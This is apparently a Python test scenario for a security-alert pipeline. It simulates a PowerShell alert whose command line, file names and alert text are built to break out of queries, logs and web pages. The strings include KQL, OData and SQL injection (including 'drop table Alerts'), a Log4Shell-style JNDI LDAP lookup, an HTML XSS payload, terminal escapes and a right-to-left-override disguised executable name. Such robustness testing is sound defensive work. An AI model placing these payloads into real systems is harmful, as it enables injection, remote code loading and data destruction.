"""On wks-hr-03 somebody names things so that they break out of queries, filters, keys, logs and pages.

One alert: a PowerShell command line with quotes, newlines, KQL, OData, HTML and terminal escapes in it.
"""

from local.incidents.case import Case, Expectation, file_evidence, process_evidence, user_evidence
from local.incidents.estate import PARTNER
from local.incidents.programs import program
from local.incidents.stage import Stage, as_user, attacker, clock, later
from local.incidents.world import File, Process

_LINE = (
    "powershell.exe -c \"Write-Output 'x' or true //\"\r\n"
    '"; DeviceProcessEvents | take 10 //\n'
    '@"a""b" | where 1 == 1 or Title == \'\' \\" \\\\ \\u0022 %s {0} ${jndi:ldap://192.0.2.250/a}\n'
    "' or 1 eq 1 or PartitionKey ne '\t<img src=x onerror=alert(1)> \x1b[31mred\x1b[0m ../../#?/\\"
)


def tell(stage: Stage) -> None:
    """Records the script and its oddly named files, and raises the alert."""
    record, born = stage.recorder, clock("08:50:40.1170936")
    explorer = stage.estate.resident("wks-hr-03", "explorer.exe")
    shell = record.start(explorer, program("windows", "powershell.exe"), _LINE, at=born, life=5 * 10**9)
    folder = as_user(PARTNER) + "\\Desktop\\报告 تقرير 📁"
    names = (
        "a'b\" | union * @{x}.txt",
        "عقد_\u202egnp.exe",
        "漢字かな交じり文𠮷野家.docx",
        "🦊🏴\u200d☠️.js",
        "'); drop table Alerts; --.csv",
    )
    files = [stage.drop(attacker(name, folder)) for name in names]
    for count, subject in enumerate(files):
        record.file(shell, later(born, 1.5 + count * 0.73), "FileCreated", subject)
    record.start(
        shell,
        program("windows", "cmd.exe"),
        f'cmd.exe /c type "{files[0].path}"\n| echo "',
        at=later(born, 6.6),
    )
    _alert_on_script(stage, shell, born, files)


def _alert_on_script(stage: Stage, shell: Process, born: int, files: list[File]) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious script \"' | union * //\nwith odd names",
            description="Line one\r\nline two\u2028line three <b>bold</b> \\",
            severity="Medium",
            category="Execution",
            device=shell.device,
            first=born,
            last=later(born, 5),
            created=clock("08:52:59.2"),
            evidence=(
                process_evidence(shell),
                *(file_evidence(one) for one in files),
                user_evidence(PARTNER),
            ),
            expected=Expectation(
                "ExactProcess",
                "Unproven",
                "Files with odd names were written; nothing harmful was seen.",
                anchors=(shell,),
            ),
            incident=1056,
            techniques=("T1059.001",),
            user=PARTNER,
        )
    )
